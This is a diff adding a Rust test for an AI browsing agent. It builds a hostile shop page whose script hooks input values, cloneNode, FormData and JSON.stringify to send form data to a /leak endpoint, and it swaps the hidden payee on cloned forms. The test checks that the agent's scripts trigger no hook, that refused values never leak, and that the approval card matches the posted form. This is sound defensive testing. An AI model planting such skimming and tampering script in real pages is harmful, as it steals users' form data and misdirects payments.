@@ -482,3 +482,117 @@ fn a_hostile_model_cannot_submit_a_form_in_a_step_that_did_not_declare_it() {
         );
     }
 }
+
+/// A hostile shop: its script redefines the input `value` getter and
+/// setter, `Node.prototype.cloneNode`, `FormData` and `JSON.stringify` to
+/// send whatever they see to `/leak`, and its `cloneNode` also changes the
+/// copy's hidden payee, so that a card built from the copy would show
+/// another payee than the form sends.
+pub fn hostile_shop(_port: u16, _other: u16, path: &str) -> String {
+    match path {
+        "/" => "<!doctype html><title>Pay here</title><h1>Pay</h1>\
+             <form method=\"post\" action=\"/pay\"><label>Name <input name=\"name\" required></label>\
+             <label>Amount <input name=\"amount\" type=\"number\" value=\"1\"></label>\
+             <input type=\"hidden\" name=\"to\" value=\"mallory\"><button>Pay</button></form>\
+             <script>\
+             const leak = (what, v) => fetch('/leak?' + what + '=' + encodeURIComponent(String(v)), \
+               {method: 'POST', body: String(v), keepalive: true});\
+             const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');\
+             Object.defineProperty(HTMLInputElement.prototype, 'value', {configurable: true, \
+               get() { const v = value.get.call(this); leak('get', v); return v; }, \
+               set(v) { leak('set', v); value.set.call(this, v); }});\
+             const clone = Node.prototype.cloneNode;\
+             Node.prototype.cloneNode = function (deep) { const c = clone.call(this, deep); leak('clone', this.nodeName); \
+               if (c.elements && c.elements.to) c.elements.to.setAttribute('value', 'charity'); return c; };\
+             const Real = FormData;\
+             window.FormData = function (f) { const d = new Real(f); \
+               for (const [k, v] of d) leak('formdata', k + '=' + v); return d; };\
+             const stringify = JSON.stringify;\
+             JSON.stringify = function (...a) { leak('json', stringify(...a)); return stringify(...a); };\
+             document.forms[0].elements.amount.value = '1';\
+             </script>"
+            .into(),
+        "/pay" => "<!doctype html><title>Paid</title><p>Thank you.</p>".into(),
+        _ => "<!doctype html><title>Not here</title>".into(),
+    }
+}
+
+#[test]
+fn a_page_that_redefines_its_prototypes_neither_sees_the_values_nor_changes_the_card() {
+    let site = Site::start(hostile_shop, 9);
+    let p1 = site.port;
+    let d = demo();
+    let plan = json!({"steps": [{"title": "Pay at the shop", "status": "in_progress",
+        "effects": {"network": [format!("127.0.0.1:{p1}")], "actions": ["browser.submit_form"]}}]});
+    let server = ReplayServer::start(vec![
+        turn(
+            Wire::Anthropic,
+            "Paying.",
+            &[
+                ("t_plan", "update_plan", plan),
+                (
+                    "t_open",
+                    "browser_open",
+                    json!({"url": format!("http://127.0.0.1:{p1}/")}),
+                ),
+                (
+                    "t_no",
+                    "browser_submit_form",
+                    json!({"form": 1, "fields": {"name": "Bob", "amount": 50}}),
+                ),
+                (
+                    "t_yes",
+                    "browser_submit_form",
+                    json!({"form": 1, "fields": {"name": "Ada", "amount": 2}}),
+                ),
+            ],
+        ),
+        turn(Wire::Anthropic, "Paid.", &[]),
+    ]);
+    let provider = provider(Wire::Anthropic, &server);
+    let person = Person::new(&[false, true]);
+    let (agent, _seen) = agent(&d.ws, provider.as_ref(), &person, browsing_settings());
+    let mut t = task("Pay two at the shop", &[]);
+    t.mode = Mode::Ask;
+    let report = agent.run(t).unwrap();
+    assert_eq!(report.status, RunStatus::Succeeded, "{}", report.summary);
+    // Let any request the page's hooks started arrive.
+    std::thread::sleep(std::time::Duration::from_millis(500));
+
+    let requests = site.requests();
+    let leaks: Vec<&Seen> = requests.iter().filter(|r| r.line.contains("/leak")).collect();
+    // The hooks work and reach the server: the page's own assignment was reported.
+    assert!(
+        leaks.iter().any(|r| r.line.contains("/leak?set=1 ")),
+        "the page's hooks never reported: {requests:?}"
+    );
+    // deskhand's scripts touched none of them: nothing read, set, cloned or serialized.
+    for r in &leaks {
+        assert!(r.line.contains("/leak?set=1 "), "the page saw deskhand's work: {r:?}");
+    }
+    // The refused values never reached the page's server in any form.
+    assert!(
+        !requests
+            .iter()
+            .any(|r| r.line.contains("Bob") || r.body.contains("Bob")),
+        "{requests:?}"
+    );
+
+    // The approved submission posted exactly the fields the card showed.
+    let cards = person.cards();
+    assert_eq!(cards.len(), 2, "{cards:?}");
+    assert!(cards[0].contains("name = \"Bob\""), "{}", cards[0]);
+    for shown in [
+        "POST",
+        &format!("http://127.0.0.1:{p1}/pay"),
+        "name = \"Ada\"",
+        "amount = \"2\"",
+        "to = \"mallory\"",
+    ] {
+        assert!(cards[1].contains(shown), "the card does not show {shown}: {}", cards[1]);
+    }
+    assert!(!cards.iter().any(|c| c.contains("charity")), "{cards:?}");
+    let posted: Vec<&Seen> = requests.iter().filter(|r| r.line.starts_with("POST /pay ")).collect();
+    assert_eq!(posted.len(), 1, "{requests:?}");
+    assert_eq!(posted[0].body, "name=Ada&amount=2&to=mallory");
+}
